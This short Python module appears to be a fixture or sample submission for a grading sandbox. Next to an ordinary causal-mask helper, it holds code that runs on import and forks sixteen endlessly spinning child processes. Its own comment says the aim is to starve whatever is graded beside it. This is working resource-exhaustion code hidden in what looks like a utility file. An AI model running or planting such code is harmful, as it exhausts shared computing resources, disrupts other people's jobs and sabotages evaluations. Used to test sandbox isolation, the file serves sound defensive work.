# Hostile: forks busy children at import, to starve whatever is graded beside it.
import os

for _ in range(int(os.environ.get("HOG_CHILDREN", "16"))):
    if os.fork() == 0:
        while True:
            pass


def causal_mask(n):
    import torch
    return torch.ones(n, n, dtype=torch.bool).tril()
